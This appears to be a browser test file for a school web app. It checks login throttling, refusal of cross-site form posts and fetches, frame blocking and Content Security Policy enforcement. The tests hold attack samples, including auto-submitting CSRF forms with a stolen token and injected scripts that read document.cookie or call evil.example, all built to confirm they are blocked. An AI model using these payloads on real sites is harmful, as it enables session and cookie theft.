// What a browser is kept from: guessing passwords, acting for another site, and running what a page does not hold.
// time bound: 600 s

import assert from 'node:assert/strict';
import http from 'node:http';
import { after, before, beforeEach, test } from 'node:test';

import { newPlace } from '../lib/place.mjs';
import { waitFor } from '../lib/wait.mjs';
import { checkPage, open, openBrowser, openPage, shown, signIn, until } from './browser.mjs';
import { openStack, password } from './stack.mjs';

const place = newPlace();
let stack;
let browser;
let foreign;

before(async () => {
    stack = await openStack(place);
    browser = await openBrowser(stack);
    foreign = await startForeignSite();
});
after(async () => {
    await browser?.close();
    foreign?.server.close();
    await place.stop();
});
beforeEach(() => stack.postgres.sql('postgres', 'DELETE FROM throttle_buckets; DELETE FROM account_sources; DELETE FROM sessions'));

/** A web site of somebody else: /PATH gives what foreign.pages holds. */
async function startForeignSite() {
    const pages = {};
    const server = http.createServer((request, response) => {
        response.writeHead(200, { 'content-type': 'text/html' });
        response.end(`<!doctype html><html lang="en"><title>elsewhere</title>${pages[request.url] ?? ''}`);
    });
    await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
    return { server, pages, origin: `http://127.0.0.1:${server.address().port}` };
}

async function withPage(options, work) {
    const page = await openPage(browser, stack, options);
    try {
        await work(page);
        assert.deepEqual(page.problems, []);
    } finally {
        await page.context().close();
    }
}

async function tryPassword(page, text) {
    await page.fill('#username', 'student.demo');
    await page.fill('#password', text);
    await page.click('#sign-in-form button[type=submit]');
}

const sessions = async () => Number(await stack.postgres.sql('postgres', 'SELECT count(*) FROM sessions'));
/** As if many wrong tries had just been made: whoever has to wait, waits for long. */
const manyWrongTries = () => stack.postgres.sql('postgres', "UPDATE throttle_buckets SET failures = 1000, last_at = now() WHERE bucket LIKE '%:%:%'");
const meInPage = (page) => page.evaluate(() => fetch('/api/v1/me').then((answer) => answer.status));

// ---- wrong tries ----

test('too many wrong tries are said in words, with how long to wait, and the form stays usable', () =>
    withPage({}, async (page) => {
        page.allowed.push(/status of 401/, /status of 429/);
        await page.goto('/sign-in');
        await tryPassword(page, 'not the password');
        await page.waitForSelector('#message:not([hidden])');
        await manyWrongTries();
        await tryPassword(page, password);
        await until(page, 'the sentence', () => /too many wrong tries/.test(document.getElementById('message').textContent));
        assert.match(await page.textContent('#message'), /Try again in \d+ minutes\./);
        assert.equal(await page.inputValue('#username'), 'student.demo');
        await checkPage(Object.assign(page, { problems: [] }), 'sign-in-throttled');
        await stack.postgres.sql('postgres', 'DELETE FROM throttle_buckets');
        await tryPassword(page, password);
        await page.waitForURL('**/courses');
        await shown(page);
    }));

test('without JavaScript the page says so, too', () =>
    withPage({ javaScriptEnabled: false }, async (page) => {
        await page.goto('/sign-in');
        await tryPassword(page, 'not the password');
        await page.waitForURL('**/sign-in#wrong');
        await manyWrongTries();
        await tryPassword(page, password);
        await page.waitForURL('**/sign-in#wait-long');
        assert.ok(await page.isVisible('#wait-long'));
        assert.match(await page.textContent('#wait-long'), /wait five minutes/);
    }));

test("a classmate's wrong tries do not lock out the owner's device", async () => {
    await withPage({}, async (owner) => {
        await signIn(owner, 'student.demo');
        await withPage({}, async (classmate) => {
            classmate.allowed.push(/status of 401/, /status of 429/);
            await classmate.goto('/sign-in');
            await tryPassword(classmate, 'not the password');
            await classmate.waitForSelector('#message:not([hidden])');
            await manyWrongTries();
            await tryPassword(classmate, password);
            await until(classmate, 'the sentence', () => /too many wrong tries/.test(document.getElementById('message').textContent));
        });
        await owner.click('text=Sign out');
        await owner.waitForURL('**/sign-in#signed-out');
        await signIn(owner, 'student.demo');
        assert.equal(await meInPage(owner), 200);
    });
});

// ---- another site ----

const form = (action, fields, more = '') =>
    `<form id="f" method="post" action="${stack.origin}${action}" ${more}>${Object.entries(fields).map(([name, value]) => `<input name="${name}" value='${value}'>`).join('')}</form>
     <script>document.getElementById('f').submit()</script>`;

/** Opens a page of the other site that posts by itself; gives the status of our answer. */
async function attack(page, html) {
    foreign.pages['/attack'] = html;
    const answer = page.waitForResponse((response) => response.url().startsWith(stack.origin) && response.request().method() === 'POST');
    await page.goto(`${foreign.origin}/attack`);
    return (await answer).status();
}

test('a page of another site posts forms: all are refused, and the session is unharmed', () =>
    withPage({}, async (page) => {
        page.allowed.push(/status of 403/);
        await signIn(page, 'student.demo');
        const [, token] = /name="form_token" value="([^"]+)"/.exec(await page.content());
        assert.equal(await attack(page, form('/sign-out', {})), 403);
        assert.equal(await attack(page, form('/sign-out', { form_token: token })), 403, 'even with a token that was stolen');
        assert.equal(await attack(page, form('/api/v1/sessions', { '{"username":"student.demo","password":"': `${password}"}` }, 'enctype="text/plain"')), 403);
        await open(page, '/courses');
        assert.equal(await meInPage(page), 200);
        assert.equal(await sessions(), 1);
    }));

test('nobody is signed in as somebody else by another site', () =>
    withPage({}, async (page) => {
        page.allowed.push(/status of 403/);
        await page.goto('/sign-in');
        assert.equal(await attack(page, form('/sign-in', { username: 'teacher.demo', password })), 403);
        const other = (await fetchPage('/sign-in')).token;
        assert.equal(await attack(page, form('/sign-in', { form_token: other, username: 'teacher.demo', password })), 403, "with the attacker's own token");
        assert.equal(await sessions(), 0);
        assert.deepEqual((await page.context().cookies()).map(({ name }) => name).filter((name) => name.includes('session')), []);
    }));

/** What the edge has answered so far: "METHOD PATH STATUS". */
function edgeLog() {
    const lines = place.read('log/edge-access.log').trimEnd().split('\n').map((line) => JSON.parse(line));
    return lines.map(({ method, path, status }) => `${method} ${path} ${status}`);
}

/** A page of ours as the attacker gets it. */
async function fetchPage(address) {
    const page = await openPage(browser, stack);
    await page.goto(address);
    const token = await page.getAttribute('input[name=form_token]', 'value');
    await page.context().close();
    return { token };
}

test('a script of another site fetches: nothing is changed and nothing is read', () =>
    withPage({}, async (page) => {
        page.allowed.push(/CORS|ERR_FAILED|status of 40|ERR_BLOCKED_BY_RESPONSE|NotSameOrigin/);
        await signIn(page, 'student.demo');
        await page.goto(`${foreign.origin}/`);
        const seen = edgeLog().length;
        const outcomes = await page.evaluate(async (target) => {
            const calls = [
                ['/api/v1/sessions', { method: 'DELETE' }],
                ['/api/v1/sessions/current', { method: 'DELETE', headers: { 'content-type': 'application/json' } }],
                ['/api/v1/me', {}],
                ['/api/v1/me/password', { method: 'PUT', headers: { 'content-type': 'application/json' }, body: '{}' }],
                ['/sign-out', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ a: 'b' }) }],
                ['/api/v1/me', { mode: 'no-cors' }],
            ];
            const all = [];
            for (const [path, options] of calls) {
                all.push(await fetch(target + path, { credentials: 'include', ...options }).then((answer) => answer.type, () => 'failed'));
            }
            return all;
        }, stack.origin);
        assert.deepEqual(outcomes, Array(6).fill('failed'));
        await waitFor('the requests to be logged', () => edgeLog().length >= seen + outcomes.length);
        assert.deepEqual(edgeLog().slice(seen).sort(), [
            'GET /api/v1/me 401', // the cookie stays at home
            'GET /api/v1/me 401',
            'OPTIONS /api/v1/me/password 405',
            'OPTIONS /api/v1/sessions 405',
            'OPTIONS /api/v1/sessions/current 405',
            'POST /sign-out 403',
        ]);
        await open(page, '/courses');
        assert.equal(await meInPage(page), 200);
        assert.equal(await sessions(), 1);
    }));

test('no page can be framed by another site', () =>
    withPage({}, async (page) => {
        page.allowed.push(/frame|ERR_BLOCKED_BY_RESPONSE/i);
        foreign.pages['/frame'] = `<iframe id="f" src="${stack.origin}/sign-in"></iframe>`;
        const refused = page.waitForEvent('requestfailed', (request) => request.url() === `${stack.origin}/sign-in`);
        await page.goto(`${foreign.origin}/frame`);
        assert.match((await refused).failure().errorText, /BLOCKED_BY_RESPONSE/);
        const frame = await (await page.waitForSelector('#f')).contentFrame();
        assert.equal(await frame.$('#sign-in-form'), null);
    }));

// ---- what a page does not hold ----

/** From the first moment of every page on, violations of its policy are kept. */
async function keepViolations(page) {
    await page.context().addInitScript(() => {
        globalThis.violations = [];
        document.addEventListener('securitypolicyviolation', (event) => {
            globalThis.violations.push(`${event.violatedDirective} ${event.blockedURI}`);
        });
    });
}

const violations = (page) => page.evaluate(() => globalThis.violations);

test('no page breaks its own policy', async () => {
    const visits = {
        'student.demo': ['/courses', '/account', `/courses/${stack.ids.course}`, `/lessons/${stack.ids.lesson}`],
        'teacher.demo': ['/classes', '/courses', '/account'],
        'operator.demo': ['/district', '/account'],
    };
    for (const [login, addresses] of Object.entries(visits)) {
        await withPage({}, async (page) => {
            page.allowed.push(/status of 40[34]/);
            await keepViolations(page);
            await page.goto('/sign-in');
            assert.deepEqual(await violations(page), [], '/sign-in');
            await signIn(page, login);
            for (const address of addresses) {
                await open(page, address);
                if (address.startsWith('/lessons/')) {
                    await page.click('.play-button');
                    await until(page, 'the video to play', () => document.querySelector('video')?.currentTime > 0);
                }
                assert.deepEqual(await violations(page), [], `${address} as ${login}`);
            }
            await page.goto('/nothing');
            assert.deepEqual(await violations(page), [], 'not found');
        });
    }
});

test('a script or a style that was brought into a page is blocked, and reported', () =>
    withPage({}, async (page) => {
        page.allowed.push(/Content Security Policy|violates the following|EvalError/);
        await keepViolations(page);
        await page.goto('/sign-in');
        const before = await page.evaluate(() => getComputedStyle(document.body).color);
        await page.evaluate(() => {
            const add = (tag, text, to = document.body) => to.append(Object.assign(document.createElement(tag), { textContent: text }));
            add('script', 'globalThis.stolen = document.cookie');
            add('style', 'body { color: rgb(1, 2, 3) !important }');
            document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="globalThis.stolen = 1" alt=""><p style="color: red">x</p>');
            document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }));
            new Image().src = 'https://evil.example/?secret';
            fetch('https://evil.example/').catch(() => {});
            setTimeout(() => { // what evaluate() calls itself may use eval, what the page calls may not
                globalThis.stolen = new Function('return 1')();
            }, 0);
        });
        await until(page, 'all to be reported', () => globalThis.violations.length >= 8);
        const seen = (await violations(page)).sort();
        for (const one of ['script-src-elem inline', 'style-src-elem inline', 'script-src-attr inline', 'style-src-attr inline', 'script-src eval',
            'script-src-elem https://evil.example/x.js', 'img-src https://evil.example/', 'connect-src https://evil.example/']) {
            assert.ok(seen.some((entry) => entry.startsWith(one)), `${one} in ${seen.join('; ')}`);
        }
        assert.equal(await page.evaluate(() => globalThis.stolen), undefined);
        assert.equal(await page.evaluate(() => getComputedStyle(document.body).color), before);
    }));

test("the edge's own page keeps to its policy and is styled", () =>
    withPage({}, async (page) => {
        page.allowed.push(/status of 50[0-9]/, /favicon/);
        await keepViolations(page);
        await stack.stopApi();
        await page.goto('/courses');
        assert.equal(await page.evaluate(() => document.querySelectorAll('h1').length), 1);
        assert.notEqual(await page.evaluate(() => getComputedStyle(document.querySelector('h1')).borderLeftWidth), '0px');
        assert.deepEqual((await violations(page)).filter((entry) => !/favicon/.test(entry)), []);
        await stack.startApi();
    }));

// ---- my account ----

test('my account: other devices are signed out by a button, and the password is changed', () =>
    withPage({}, async (page) => {
        page.allowed.push(/status of 422/);
        await signIn(page, 'student.demo');
        await withPage({}, async (other) => {
            await signIn(other, 'student.demo');
            await open(page, '/account');
            assert.equal(await page.locator('.session-list li').count(), 2);
            assert.match(await page.locator('.session-list li').first().textContent(), /Chrome on Linux/);
            await page.click('text=Sign out everywhere else');
            await until(page, 'one to be left', () => document.querySelectorAll('.session-list li').length === 1);
            other.allowed.push(/status of 401/);
            assert.equal(await meInPage(other), 401);
        });
        assert.equal(await page.evaluate(() => document.activeElement.id), 'sessions-title');
        await page.fill('#old-password', 'not the password');
        await page.fill('#new-password', 'another long password');
        await page.click('.password-form button');
        await page.waitForSelector('text=The old password is not right.');
        await page.fill('#old-password', password);
        await page.click('.password-form button');
        await page.waitForSelector('text=Your password is changed.');
        assert.equal(await page.inputValue('#new-password'), '');
        assert.equal(await meInPage(page), 200);
        await page.fill('#old-password', 'another long password');
        await page.fill('#new-password', password);
        await page.click('.password-form button');
        await until(page, 'the form to be empty again', () => document.getElementById('new-password').value === '');
    }));
